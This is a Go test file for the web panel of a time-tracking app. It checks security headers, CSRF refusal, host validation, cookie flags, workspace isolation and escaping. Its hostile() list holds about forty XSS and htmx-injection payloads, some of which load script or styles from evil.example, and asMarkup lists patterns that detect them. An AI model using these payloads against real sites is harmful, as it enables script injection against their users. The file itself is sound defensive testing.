package panel

import (
	"fmt"
	"net/http"
	"net/netip"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/clockwarden/clockwarden/core"
	"github.com/clockwarden/clockwarden/core/coretest"
)

func TestSecurityHeaders(t *testing.T) {
	h := newHouse(t)
	token := h.in("olivia")
	for what, w := range map[string]http.Header{
		"page":         h.get("/w/acme/settings/accounts", token).Header(),
		"sign-in":      h.get("/", "").Header(),
		"404":          h.get("/nowhere", token).Header(),
		"405":          h.do(http.MethodDelete, "/", call{as: token}).Header(),
		"foreign host": h.do(http.MethodGet, "/", call{host: "evil.example"}).Header(),
		"csrf":         h.do(http.MethodPost, "/sign-out", call{as: token, header: map[string]string{"Sec-Fetch-Site": "cross-site"}}).Header(),
		"static":       h.get(h.panel.files.URL("app.css"), "").Header(),
	} {
		for name, want := range map[string]string{
			"Content-Security-Policy":    policyOfContent,
			"X-Content-Type-Options":     "nosniff",
			"Referrer-Policy":            "same-origin",
			"Cross-Origin-Opener-Policy": "same-origin",
			"X-Frame-Options":            "DENY",
		} {
			if got := w.Get(name); got != want {
				t.Errorf("%s: %s = %q, want %q", what, name, got, want)
			}
		}
		if w.Get("Permissions-Policy") == "" || w.Get("X-Request-Id") == "" || w.Get("Vary") == "" {
			t.Errorf("%s lacks a header: %v", what, w)
		}
		if cache := w.Get("Cache-Control"); what == "static" && !strings.Contains(cache, "immutable") || what != "static" && cache != "no-store" {
			t.Errorf("%s: Cache-Control = %q", what, cache)
		}
		if w.Get("Strict-Transport-Security") != "" {
			t.Errorf("%s: HSTS on http", what)
		}
	}
	if got := h.get("/sign-in/"+strings.Repeat("x", 43), "").Header().Get("Referrer-Policy"); got != "no-referrer" {
		t.Errorf("sign-in link: Referrer-Policy = %q", got)
	}
	secure := newHouseAt(t, "https://clock.example")
	if got := secure.do(http.MethodGet, "/", call{host: "clock.example"}).Header().Get("Strict-Transport-Security"); got == "" {
		t.Error("no HSTS on https")
	}
	for name, value := range map[string]string{"app.css": "text/css", "app.js": "text/javascript", "htmx.min.js": "text/javascript", "favicon.svg": "image/svg+xml"} {
		w := h.get(h.panel.files.URL(name), "")
		if w.Code != 200 || !strings.HasPrefix(w.Header().Get("Content-Type"), value) || w.Body.Len() == 0 {
			t.Errorf("%s: %d %s", name, w.Code, w.Header().Get("Content-Type"))
		}
	}
	if w := h.get("/static/0000000000000000/app.css", ""); w.Code != 404 {
		t.Errorf("a stale hash answers %d", w.Code)
	}
	if w := h.get("/static/", ""); w.Code != 404 {
		t.Errorf("the folder answers %d", w.Code)
	}
}

// TestForeignRequestsAreRefused is the CSRF matrix: Sec-Fetch-Site × Origin on a request with a cookie.
func TestForeignRequestsAreRefused(t *testing.T) {
	h := newHouse(t)
	h.MustStart("dana", "work", coretest.Start.Add(-time.Hour))
	token := h.in("olivia")
	sites := []string{"", "same-origin", "same-site", "cross-site", "none"}
	origins := []string{"", "http://localhost:8080", "http://evil.example", "null", "http://localhost:9999"}
	for _, site := range sites {
		for _, origin := range origins {
			// The panel's own page, or an old browser that says where it comes from.
			allowed := site == "same-origin" || (site == "" || site == "none") && origin == "http://localhost:8080"
			for _, method := range []string{http.MethodPost, http.MethodPut, http.MethodDelete, http.MethodPatch} {
				w := h.do(method, "/w/acme/timer/start", call{
					as: token, form: url.Values{"description": {"x"}}, header: map[string]string{"Sec-Fetch-Site": site, "Origin": origin},
				})
				want := http.StatusForbidden
				if allowed {
					want = http.StatusMethodNotAllowed
					if method == http.MethodPost {
						want = http.StatusSeeOther
					}
				}
				if w.Code != want {
					t.Errorf("%s with Sec-Fetch-Site %q and Origin %q = %d, want %d", method, site, origin, w.Code, want)
				}
			}
		}
	}
	// Origin must be the host of the request, not just any host of ours.
	w := h.do(http.MethodPost, "/sign-out", call{as: token, header: map[string]string{"Sec-Fetch-Site": "", "Origin": "http://acme.localhost:8080"}})
	if w.Code != http.StatusForbidden {
		t.Errorf("a sibling's origin passes: %d", w.Code)
	}
}

// TestUnknownHost: the page of a host that is none of ours has the way to the right address,
// which nothing in the request can change.
func TestUnknownHost(t *testing.T) {
	h := newHouseAt(t, "https://clock.example:8443")
	for _, host := range []string{"nobody.clock.example:8443", "evil.example"} {
		for _, path := range []string{"/", "/w/acme/settings/accounts", "/sign-in/x", "/nowhere"} {
			w := h.do(http.MethodGet, path, call{host: host, as: h.in("olivia"), header: map[string]string{"X-Forwarded-Host": "evil.example", "Forwarded": "host=evil.example"}})
			if w.Code != 404 {
				t.Errorf("%s%s = %d, want 404", host, path, w.Code)
			}
			mustHave(t, host+path, w.Body.String(), `href="https://clock.example:8443/"`, "Go to clock.example:8443")
			mustLack(t, host+path, w.Body.String(), "evil.example", "nobody.clock", `href="/"`)
		}
		// It loads nothing, since nothing is served there.
		mustLack(t, host, h.do(http.MethodGet, "/", call{host: host}).Body.String(), "/static/", "<img", "<link", "<script")
		css := regexp.MustCompile(`"(/static/[^"]+app\.css)"`).FindStringSubmatch(h.do(http.MethodGet, "/", call{host: "clock.example:8443"}).Body.String())
		if len(css) == 0 {
			t.Fatal("the sign-in page has no style sheet")
		}
		if w := h.do(http.MethodGet, css[1], call{host: host}); w.Code != 404 {
			t.Errorf("%s%s = %d, want 404", host, css[1], w.Code)
		}
	}
}

func TestHosts(t *testing.T) {
	loop := newHouse(t)
	far := newHouseAt(t, "https://clock.example")
	for _, test := range []struct {
		h      *house
		host   string
		status int
	}{
		{loop, "localhost:8080", 200},
		{loop, "localhost", 200},
		{loop, "LOCALHOST:1", 200},
		{loop, "127.0.0.1:9999", 200},
		{loop, "[::1]:8080", 200},
		{loop, "acme.localhost:8080", 200},
		{loop, "other.localhost:8080", 404},
		{loop, "a.acme.localhost:8080", 404},
		{loop, "localhost.evil.example", 404},
		{loop, "evil.example", 404},
		{loop, "evillocalhost", 404},
		{loop, "", 200}, // httptest's default is replaced by the house
		{loop, "10.0.0.1:8080", 404},
		{loop, ".localhost", 404},
		{far, "clock.example", 200},
		{far, "clock.example:8443", 200},
		{far, "clock.example.", 200},
		{far, "CLOCK.example", 200},
		{far, "acme.clock.example", 200},
		{far, "nobody.clock.example", 404},
		{far, "localhost", 404},
		{far, "127.0.0.1", 404},
		{far, "evilclock.example", 404},
		{far, "clock.example.evil.test", 404},
		{far, "clock.example@evil.test", 404},
	} {
		w := test.h.do(http.MethodGet, "/", call{host: test.host})
		if w.Code != test.status {
			t.Errorf("%s on %q = %d, want %d", test.h.base, test.host, w.Code, test.status)
		}
		mustLack(t, test.host, w.Body.String(), "evil")
	}
}

func TestForwardedHeadersOnlyFromProxies(t *testing.T) {
	proxies := newHouseAt(t, "http://localhost:8080", netip.MustParsePrefix("192.0.2.0/24")) // httptest's own address
	plain := newHouse(t)
	forged := map[string]string{"X-Forwarded-Host": "evil.example", "X-Forwarded-For": "203.0.113.9", "Forwarded": "host=evil.example"}
	if w := plain.do(http.MethodGet, "/", call{header: forged}); w.Code != 200 {
		t.Errorf("a header of a stranger changes the host: %d", w.Code)
	}
	if w := proxies.do(http.MethodGet, "/", call{header: forged}); w.Code != 404 {
		t.Errorf("a proxy's header is not believed: %d", w.Code)
	}
	for _, test := range []struct{ chain, want string }{
		{"203.0.113.9", "203.0.113.9"},
		{"1.1.1.1, 203.0.113.9", "203.0.113.9"},
		{"203.0.113.9, 192.0.2.7", "203.0.113.9"},
		{"junk, 203.0.113.9", "203.0.113.9"},
		{"203.0.113.9, junk", "192.0.2.1"},
		{"", "192.0.2.1"},
	} {
		link, _, err := proxies.CreateSignInLink(t.Context(), coretest.Operator(proxies.Workspace.ID), "dana@acme.test")
		if err != nil {
			t.Fatal(err)
		}
		proxies.do(http.MethodPost, "/sign-in/"+link, call{header: map[string]string{"X-Forwarded-For": test.chain}})
		last := proxies.MustAudit(core.ActSessionSignIn)[0]
		if last.Address != test.want {
			t.Errorf("X-Forwarded-For %q gives %q, want %q", test.chain, last.Address, test.want)
		}
	}
}

// TestSubdomain: there, other workspaces do not exist, sessions are its own, and nothing is there to switch to.
func TestSubdomain(t *testing.T) {
	h := newHouse(t)
	other := h.secondWorkspace("beta", "olivia@acme.test")
	main := h.in("olivia")
	here, _ := h.SignInOn("olivia", h.Workspace.ID)
	on := func(path, as string) int {
		return h.do(http.MethodGet, path, call{as: as, host: "acme.localhost:8080"}).Code
	}
	if got := on("/w/acme/settings/accounts", here); got != 200 {
		t.Errorf("own workspace on its subdomain = %d", got)
	}
	if got := on("/w/beta/", here); got != 404 {
		t.Errorf("another workspace on the subdomain = %d, want 404", got)
	}
	if got := on("/w/acme/", main); got != 303 {
		t.Errorf("the main address's session on the subdomain = %d, want 303 to sign-in", got)
	}
	if got := h.get("/w/acme/", here).Code; got != 303 {
		t.Errorf("the subdomain's session on the main address = %d", got)
	}
	mustHave(t, "main address", h.get("/w/acme/", main).Body.String(), "Switch workspace", "/w/beta/")
	mustLack(t, "subdomain", h.do(http.MethodGet, "/w/acme/", call{as: here, host: "acme.localhost:8080"}).Body.String(), "Switch workspace", other.Name)

	link, _, err := h.CreateSignInLink(t.Context(), coretest.Operator(other.ID), "olivia@acme.test")
	if err != nil {
		t.Fatal(err)
	}
	for _, method := range []string{http.MethodGet, http.MethodPost} {
		if w := h.do(method, "/sign-in/"+link, call{host: "acme.localhost:8080"}); w.Code != http.StatusGone {
			t.Errorf("%s of another workspace's link on the subdomain = %d, want 410", method, w.Code)
		}
	}
}

func (h *house) secondWorkspace(slug, owner string) core.Workspace {
	h.t.Helper()
	ws, _, err := h.CreateWorkspace(h.t.Context(), coretest.Operator(""), core.NewWorkspace{
		Name: "Beta Works", Slug: slug, Plan: core.PlanEnterprise, OwnerEmail: owner, OwnerName: "Olivia Owner",
	})
	if err != nil {
		h.t.Fatalf("second workspace: %v", err)
	}
	return ws
}

// TestForeignIDs: what belongs to another workspace answers as if it did not exist.
func TestForeignIDs(t *testing.T) {
	h := newHouse(t)
	ws, owner, err := h.CreateWorkspace(t.Context(), coretest.Operator(""), core.NewWorkspace{
		Name: "Canary", Slug: "canary", Plan: core.PlanEnterprise, OwnerEmail: "eve@canary.test", OwnerName: "Eve Canary",
	})
	if err != nil {
		t.Fatal(err)
	}
	theirs, err := h.StartTimer(t.Context(), core.Actor{UserID: owner.User.ID, MemberID: owner.ID, WorkspaceID: ws.ID, Door: core.DoorPanel}, core.NewEntry{Description: "canary work"})
	if err != nil {
		t.Fatal(err)
	}
	token := h.in("olivia")
	never := core.NewID(coretest.Start)
	for _, r := range h.panel.routes() {
		if !strings.Contains(r.path, "{id}") && !strings.Contains(r.path, "{member}") {
			continue
		}
		ask := func(entry, member core.ID) (int, string) {
			path := strings.NewReplacer("{slug}", "acme", "{id}", string(entry), "{member}", string(member)).Replace(r.path)
			w := h.do(r.method, path, call{as: token, form: formFor(r.path, theirs)})
			return w.Code, w.Body.String()
		}
		foreign, body := ask(theirs.ID, owner.ID)
		unknown, _ := ask(never, never)
		if foreign != 404 || unknown != 404 {
			t.Errorf("%s %s: foreign %d, unknown %d, want 404", r.method, r.path, foreign, unknown)
		}
		mustLack(t, r.path, body, "canary", "Canary", "Eve")
	}
	if w := h.get("/w/canary/", token); w.Code != 404 {
		t.Errorf("another's workspace = %d", w.Code)
	}
	if e, err := h.Entry(t.Context(), core.Actor{UserID: owner.User.ID, MemberID: owner.ID, WorkspaceID: ws.ID, Door: core.DoorPanel}, theirs.ID); err != nil || !e.Running() {
		t.Errorf("another workspace's timer was stopped: %+v %v", e, err)
	}
}

func TestCookies(t *testing.T) {
	for _, test := range []struct{ base, host, want string }{
		{"http://localhost:8080", "localhost:8080", "clockwarden="},
		{"https://clock.example", "clock.example", "__Host-clockwarden="},
	} {
		h := newHouseAt(t, test.base)
		link, _, err := h.CreateSignInLink(t.Context(), coretest.Operator(h.Workspace.ID), "olivia@acme.test")
		if err != nil {
			t.Fatal(err)
		}
		w := h.do(http.MethodPost, "/sign-in/"+link, call{host: test.host})
		cookie := w.Header().Get("Set-Cookie")
		if w.Code != 303 || w.Header().Get("Location") != "/w/acme/settings/accounts" {
			t.Errorf("sign-in = %d to %s", w.Code, w.Header().Get("Location"))
		}
		if !strings.HasPrefix(cookie, test.want) {
			t.Errorf("cookie %q, want %s", cookie, test.want)
		}
		mustHave(t, "cookie", cookie, "Path=/;", "HttpOnly", "SameSite=Lax")
		mustLack(t, "cookie", cookie, "Domain")
		if secure := strings.Contains(cookie, "Secure"); secure != strings.HasPrefix(test.base, "https") {
			t.Errorf("cookie %q on %s", cookie, test.base)
		}
		// A link works once, and neither it nor the session is in the log.
		if again := h.do(http.MethodPost, "/sign-in/"+link, call{host: test.host}); again.Code != http.StatusGone {
			t.Errorf("second use = %d, want 410", again.Code)
		}
		session := strings.TrimPrefix(strings.SplitN(cookie, ";", 2)[0], test.want)
		mustLack(t, "log", h.log.String(), link, session)
	}
}

// TestSignedOut: the session is over on the server, not only in this browser.
func TestSignedOut(t *testing.T) {
	h := newHouse(t)
	token := h.in("dana")
	w := h.post("/sign-out", token, nil)
	if w.Code != 303 || !strings.Contains(w.Header().Get("Set-Cookie"), "Max-Age=0") {
		t.Errorf("sign-out = %d, %s", w.Code, w.Header().Get("Set-Cookie"))
	}
	if w := h.get("/w/acme/", token); w.Code != 303 || w.Header().Get("Location") != "/?ended=1&next=%2Fw%2Facme%2F" {
		t.Errorf("after sign-out: %d %s", w.Code, w.Header().Get("Location"))
	}
	if w := h.do(http.MethodGet, "/w/acme/", call{as: token, htmx: true}); w.Code != 401 || w.Header().Get("HX-Redirect") == "" {
		t.Errorf("htmx after sign-out: %d %v", w.Code, w.Header())
	}
	mustHave(t, "sign-in page", h.get("/?ended=1", token).Body.String(), "signed out")
}

// hostile is what people may call themselves and their work: markup, attributes, htmx, template syntax, addresses, encodings.
func hostile() []string {
	return []string{
		`<script>pwned=1</script>`, `"><img src=x onerror=pwned=1>`, `' onmouseover='pwned=1`, `</title><script>pwned=1</script>`,
		`<hx-partial hx-target="body">x</hx-partial>`, `{{.Secret}}`, `javascript:pwned=1`, `<svg/onload=pwned=1>`, `</textarea><b>`, `&lt;b&gt;`,
		`<div hx-get="/sign-out" hx-trigger="load">`, "\u202egnitset", `<!--`, `]]>`, `<template hx type="partial">`, `%3Cscript%3Epwned=1`,
		`<ScRiPt>pwned=1</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<iframe srcdoc="<script>pwned=1</script>">`, `<a href=javascript:pwned=1>x</a>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>`, `<body onload=pwned=1>`, `<input autofocus onfocus=pwned=1>`,
		`<details open ontoggle=pwned=1>`, `<style>*{display:none}</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<base href=//evil.example/>`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><button>Stop timer`, `<x hx-on:click="pwned=1" hx-trigger=load>`,
		`" hx-get="/sign-out" hx-trigger="load`, `" autofocus hx-post="/sign-out" x="`, `</script><script>pwned=1</script>`, `${pwned=1}`, `{{"{{"}}printf "%s" .}}`,
		`\"><svg onload=pwned=1>`, `<img src=x/onerror=pwned=1>`, `<object data="data:text/html,<script>pwned=1</script>">`, `<embed src=//evil.example>`,
		`<marquee onstart=pwned=1>`, `<video><source onerror=pwned=1>`, `<noscript><p title="</noscript><img src=x onerror=pwned=1>">`, `＜script＞pwned=1`,
	}
}

// asMarkup is what a page would hold if one of them were markup.
var asMarkup = []string{
	"<script>pwned", "<script src=//", "<ScRiPt", "<img src=x", "<svg/onload", "<svg onload", "' onmouseover", `<div hx-get="/sign-out"`, `hx-target="body"`, "<!--",
	"<template hx", "<iframe", "<a href=javascript", "<math>", "<body onload", "<input autofocus onfocus", "<details open ontoggle", "<style>", "<link rel=stylesheet href=//",
	"<base", "<meta http-equiv", "<form action=//", "<x hx-on", `" hx-get="/sign-out"`, `" autofocus hx-post`, "</script><script>pwned", "<object", "<embed", "<marquee", "<video>", "<noscript><p title",
}

// TestHostileNames: what people are called, and call their work, never becomes markup, anywhere.
func TestHostileNames(t *testing.T) {
	payloads := hostile()
	if len(payloads) < 40 {
		t.Fatalf("%d payloads", len(payloads))
	}
	h := newHouse(t)
	olivia := h.Actor("olivia")
	for i, p := range payloads {
		key := fmt.Sprintf("evil%d", i)
		h.MustAddMember(key, p, core.RoleMember)
		h.MustStart(key, p, coretest.Start.Add(-time.Hour))
		h.MustKey(key)
		if _, err := h.CreateProject(t.Context(), olivia, core.Project{Name: p}); err != nil {
			t.Fatalf("project %q: %v", p, err)
		}
		if _, err := h.CreateTag(t.Context(), olivia, core.Tag{Name: p}); err != nil {
			t.Fatalf("tag %q: %v", p, err)
		}
	}
	token := h.in("olivia")
	bodies := map[string]string{}
	for i, p := range payloads {
		key := fmt.Sprintf("evil%d", i)
		base := "/w/acme/accounts/" + h.member(key)
		bodies[key+" search"] = h.get("/w/acme/settings/accounts?q="+url.QueryEscape(p), token).Body.String()
		bodies[key+" view"] = h.get("/w/acme/settings/accounts?filter="+url.QueryEscape(p)+"&sort="+url.QueryEscape(p)+"&cursor="+url.QueryEscape(p), token).Body.String()
		bodies[key+" log in as"] = h.get(base+"/log-in-as", token).Body.String()
		bodies[key+" stop"] = h.get(base+"/stop", token).Body.String()
		bodies[key+" keys"] = h.get(base+"/deactivate-api-keys", token).Body.String()
		bodies[key+" edit"] = h.get("/w/acme/settings/members/"+h.member(key), token).Body.String()
		bodies[key+" own"] = h.get("/w/acme/", h.in(key)).Body.String()
		acc, err := h.Account(t.Context(), olivia, h.Who(key).ID)
		if err != nil {
			t.Fatal(err)
		}
		e, err := h.Entry(t.Context(), olivia, acc.Timer.EntryID)
		if err != nil {
			t.Fatal(err)
		}
		stop := h.do(http.MethodPost, "/w/acme/entries/"+string(e.ID)+"/stop", call{as: token, htmx: true, form: url.Values{"end": {"now"}, "reason": {p}}})
		bodies[key+" stopped"] = stop.Body.String()
		bodies[key+" correct"] = h.get("/w/acme/entries/"+string(e.ID)+"/correct", token).Body.String()
		bodies[key+" inbox"] = h.get("/w/acme/inbox", h.in(key)).Body.String()
		bodies[key+" profile"] = h.get("/w/acme/profile", h.in(key)).Body.String()
		bodies[key+" API keys"] = h.get("/w/acme/api-keys", h.in(key)).Body.String()
		bodies[key+" own log"] = h.get("/w/acme/audit", h.in(key)).Body.String()
	}
	for _, page := range []string{"settings/accounts", "settings/members", "settings/audit", "settings/forgotten", "settings/general", "settings/chat"} {
		bodies[page] = h.get("/w/acme/"+page, token).Body.String()
	}
	for what, body := range bodies {
		mustLack(t, what, body, asMarkup...)
		if body == "" {
			t.Errorf("%s is empty", what)
		}
	}
}

// TestFaults: a panic and an unknown error show a reference that is in the log, and nothing else.
func TestFaults(t *testing.T) {
	h := newHouse(t)
	for name, handle := range map[string]func(*visit) error{
		"panic": func(*visit) error { panic("secret detail") },
		"error": func(*visit) error { return fmt.Errorf("secret detail: %w", errChanged) },
	} {
		served := h.panel.outermost(h.panel.securityHeaders(h.panel.serve(route{action: public, handle: handle})))
		for _, htmx := range []bool{false, true} {
			broken := *h
			broken.handler = served
			w := broken.do(http.MethodGet, "/", call{htmx: htmx})
			id := w.Header().Get("X-Request-Id")
			if w.Code != 500 {
				t.Errorf("%s: %d", name, w.Code)
			}
			mustHave(t, name, w.Body.String(), id)
			mustLack(t, name, w.Body.String(), "secret", "goroutine", ".go:")
			mustHave(t, name+" log", h.log.String(), id, "secret detail")
		}
	}
}

func TestLargeBodies(t *testing.T) {
	h := newHouse(t)
	w := h.post("/w/acme/timer/start", h.in("dana"), url.Values{"description": {strings.Repeat("x", maxBody+1)}})
	if w.Code != http.StatusRequestEntityTooLarge {
		t.Errorf("2 MiB = %d, want 413", w.Code)
	}
}

func TestSignInURL(t *testing.T) {
	for _, test := range []struct{ base, subdomain, want string }{
		{"https://clock.example", "acme", "https://acme.clock.example/sign-in/T"},
		{"https://clock.example", "", "https://clock.example/sign-in/T"},
		{"http://localhost:8080", "acme", "http://acme.localhost:8080/sign-in/T"},
		{"http://127.0.0.1:8080", "acme", "http://127.0.0.1:8080/sign-in/T"},
		{"http://[::1]:8080", "acme", "http://[::1]:8080/sign-in/T"},
		{"https://clock.example/", "", "https://clock.example/sign-in/T"},
	} {
		base, err := url.Parse(test.base)
		if err != nil {
			t.Fatal(err)
		}
		if got := SignInURL(base, core.Workspace{Subdomain: test.subdomain}, "T"); got != test.want {
			t.Errorf("%s with %q = %s, want %s", test.base, test.subdomain, got, test.want)
		}
	}
}
